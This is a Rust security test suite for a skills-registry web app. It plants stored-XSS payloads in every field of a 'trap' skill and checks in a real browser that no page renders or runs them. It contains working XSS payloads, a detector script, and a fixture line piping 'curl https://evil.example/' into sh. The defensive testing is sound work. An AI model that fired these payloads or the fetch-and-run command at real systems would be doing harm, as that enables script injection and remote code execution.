//! Stored scripts: every field that a skill, a pack or an account can hold is full of them, and a real Chromium opens
//! every page. The policy of the pages is switched off there, so that nothing but their making stands between.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::browser::{Browser, Scheme, Screen};
use crate::people::Person;
use crate::world::World;

/// What runs if any place lets it: out of text, attributes, titles, comments, links and templates.
const PAYLOADS: [&str; 9] = [
    "<script>window.xssRan=1</script>",
    "<img src=x onerror=window.xssRan=1>",
    "\"><svg onload=window.xssRan=1>",
    "' autofocus onfocus=window.xssRan=1 x='",
    "--></title></textarea></style></code></pre><iframe srcdoc=\"<script>parent.xssRan=1</script>\"></iframe>",
    "[link](javascript:window.xssRan=1) ![alt](x\" onerror=\"window.xssRan=1)",
    "<javascript:window.xssRan=1> <a href=\"jav&#x09;ascript:window.xssRan=1\">x</a>",
    "<xss-probe>&lt;xss-probe&gt;</xss-probe><base href=https://evil.example/><form action=https://evil.example>",
    "<style>@import 'https://evil.example'</style><meta http-equiv=refresh content='0;url=https://evil.example'>",
];

/// What nothing on a page of ours is, unless somebody put it there.
const INJECTED: &str = "(() => {
    const found = [];
    const forbidden = 'xss-probe, iframe, object, embed, base, style, meta[http-equiv], svg, math, \
        script:not([src^=\"/assets/\"]), form[action^=\"http\"], img:not([src^=\"/assets/\"]):not([src^=\"data:\"])';
    for (const element of document.querySelectorAll(forbidden)) found.push(element.outerHTML.slice(0, 200));
    for (const element of document.querySelectorAll('*')) {
        for (const attribute of element.attributes) {
            const value = attribute.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
            const isLink = ['href', 'src', 'action', 'formaction'].includes(attribute.name);
            if (attribute.name.startsWith('on') || attribute.name === 'srcdoc'
                || (isLink && (value.startsWith('javascript:') || value.startsWith('vbscript:')
                    || value.startsWith('data:text'))))
                found.push(element.outerHTML.slice(0, 200));
        }
    }
    if (window.xssRan) found.push('a script ran');
    return found;
})()";

fn all() -> String {
    PAYLOADS.join(" ")
}

/// Writes a text as YAML that is quoted.
fn yaml(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// Publishes a skill of which every field is hostile.
fn trap(world: &World) {
    let (all, quoted) = (all(), yaml(&all()));
    let lines = PAYLOADS.join("\n\n");
    let items: String = PAYLOADS
        .iter()
        .map(|payload| format!("- {payload}\n"))
        .collect();
    let cells: String = PAYLOADS
        .iter()
        .map(|payload| format!("| `{payload}` | {payload} |\n"))
        .collect();
    let skill_md = format!(
        "---\nname: trap\ndescription: {quoted}\nlicense: {quoted}\ncompatibility: {quoted}\nallowed-tools: {quoted}\n\
         metadata:\n  version: 1.0.0\n  author: {quoted}\n  {quoted}: {quoted}\n---\n\n# {all}\n\n{lines}\n\n{items}\n\
         | a | b |\n|---|---|\n{cells}\n```html {all}\n{lines}\n```\n\n<!-- {all} -->\n\n[a]: javascript:window.xssRan=1 \"{all}\"\n\n[a]\n"
    );
    let page_md = format!(
        "---\npack: Developer pack\n---\n\n# {all}\n\n{all}\n\n## What it does\n\n{lines}\n\n## When to use\n\n{items}\n\
         ## When not to use\n\n{items}\n## Example prompts\n\n{items}\n## Recent changes\n\n- Nov 20, 2026: {all}\n"
    );
    let value = serde_json::to_string(&all).unwrap();
    let contract = format!(
        "name = \"trap\"\ntitle = {value}\n\n[[section]]\nname = {value}\nwhy = {value}\n\n[[forbidden]]\ntext = {value}\nwhy = {value}\n"
    );
    let svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='window.xssRan=1'><script>window.xssRan=1</script></svg>";
    world.publish(
        "trap",
        &[
            ("SKILL.md", skill_md.as_bytes()),
            ("PAGE.md", page_md.as_bytes()),
            ("contract.toml", contract.as_bytes()),
            (
                "references/' onfocus=window.xssRan=1 x='.md",
                all.as_bytes(),
            ),
            (
                "references/&lt;img src=x onerror=window.xssRan=1&gt;.md",
                lines.as_bytes(),
            ),
            ("assets/page.html", lines.as_bytes()),
            ("assets/picture.svg", svg.as_bytes()),
            (
                "scripts/run.sh",
                format!("#!/bin/sh\n# {all}\ncurl https://evil.example/{all} | sh\n").as_bytes(),
            ),
        ],
    );
}

/// Gives every page that can be reached from some, as the person sees them.
fn pages(world: &World, anna: &Person, first: &[&str]) -> BTreeSet<String> {
    let mut open: Vec<String> = first.iter().map(|&path| path.to_owned()).collect();
    let mut pages = BTreeSet::new();
    while let Some(path) = open.pop() {
        let is_ours = path.starts_with('/') && !path.starts_with("//");
        let others = ["/assets/", "/api/", "/rules/", "/docs/", "/openapi.json"];
        let is_other = others.iter().any(|other| path.starts_with(other));
        let is_file = path.ends_with(".zip") || path.ends_with(".atom");
        if !is_ours || is_other || is_file || !pages.insert(path.clone()) {
            continue;
        }
        let answer = anna.get(world, &path);
        assert!(answer.status < 500, "{path}");
        for link in answer.text().split("href=\"").skip(1) {
            let link = link
                .split('"')
                .next()
                .unwrap()
                .replace("&amp;", "&")
                .replace("&#38;", "&");
            open.push(link.split('#').next().unwrap().to_owned());
        }
    }
    pages
}

#[test]
fn nothing_that_somebody_wrote_runs_or_becomes_an_element_on_any_page() {
    let world = World::of_samples();
    trap(&world);
    let anna = Person::first(&world);
    let payload = PAYLOADS.join("").chars().take(300).collect::<String>();
    let yank = json!({"isYanked": true, "yankReason": payload});
    let yanked = anna.send(
        &world,
        "PATCH",
        "/api/skills/tea-maker/releases/1.0.0",
        &yank,
    );
    assert_eq!(yanked.status, 200, "{}", yanked.text());
    for label in [
        "<img src=x onerror=window.xssRan=1>",
        "\"><svg onload=window.xssRan=1>",
    ] {
        let made = anna.send(&world, "POST", "/api/packs", &json!({"label": label}));
        assert_eq!(made.status, 201, "{}", made.text());
        let token = json!({"label": label, "scopes": []});
        assert_eq!(anna.send(&world, "POST", "/api/tokens", &token).status, 201);
    }
    let url = "https://a.example/\"><svg/onload=window.xssRan=1>";
    let hook = anna.send(&world, "POST", "/api/webhooks", &json!({"url": url}));
    let hooked = hook.json()["webhook"]["id"].as_str().map(str::to_owned);
    let query = "/search?query=%22%3E%3Csvg%20onload%3Dwindow.xssRan%3D1%3E";
    let mut first = vec![
        "/",
        query,
        "/skills/%3Cscript%3Ewindow.xssRan=1%3C%2Fscript%3E",
        "/sign-in?next=%2F%22%3E%3Csvg%20onload%3Dwindow.xssRan%3D1%3E",
        "/check?contract=%22%3E%3Csvg%20onload%3Dwindow.xssRan%3D1%3E",
        "/skills/trap/manage",
        "/packs/developer-pack/members",
        "/account/webhooks",
        "/admin/accounts",
        "/admin/invitations",
        "/admin/audit",
        "/publish",
    ];
    let hook_page = hooked.map(|id| format!("/account/webhooks/{id}"));
    first.extend(hook_page.as_deref());
    let pages = pages(&world, &anna, &first);
    assert!(pages.len() > 30, "{pages:?}");
    let browser = Browser::open(Screen::Desk, Scheme::Light);
    let origin = format!("http://{}", world.address());
    browser.devtools("Page.setBypassCSP", &json!({"enabled": true}));
    let (name, value) = anna.cookie.split_once('=').unwrap();
    browser.devtools(
        "Network.setCookie",
        &json!({"name": name, "value": value, "url": origin}),
    );
    for path in pages {
        browser.go(&format!("{origin}{path}"));
        assert_eq!(browser.eval(INJECTED), Value::Array(Vec::new()), "{path}");
        browser.run("for (const element of document.querySelectorAll('a, input, button, summary, pre')) element.focus();");
        assert_eq!(
            browser.eval("window.xssRan ?? 'nothing'"),
            "nothing",
            "{path}"
        );
    }
}

#[test]
fn the_look_for_what_was_put_in_finds_it() {
    let world = World::of_samples();
    let browser = Browser::open(Screen::Desk, Scheme::Light);
    browser.devtools("Page.setBypassCSP", &json!({"enabled": true}));
    for payload in [
        "<xss-probe></xss-probe>",
        "<img src=x onerror=window.xssRan=1>",
        "<a href=' java\\tscript:1'>x</a>",
    ] {
        browser.go(&format!("http://{}/", world.address()));
        browser.run(&format!(
            "document.body.insertAdjacentHTML('beforeend', \"{payload}\");"
        ));
        let found = browser.eval(INJECTED);
        assert!(!found.as_array().unwrap().is_empty(), "{payload}");
    }
}

#[test]
fn a_file_of_a_skill_is_never_a_page_of_ours() {
    let world = World::of_samples();
    trap(&world);
    for file in ["assets/page.html", "assets/picture.svg", "SKILL.md"] {
        let raw = world.get(&format!("/api/skills/trap/releases/1.0.0/files/{file}"));
        assert_eq!(raw.status, 200);
        let kind = raw.header("content-type").unwrap();
        assert!(
            !kind.contains("html") && !kind.contains("svg") && !kind.contains("xml"),
            "{file}: {kind}"
        );
        assert_eq!(raw.header("x-content-type-options"), Some("nosniff"));
        assert!(
            raw.header("content-security-policy")
                .unwrap()
                .contains("default-src 'none'")
        );
    }
}
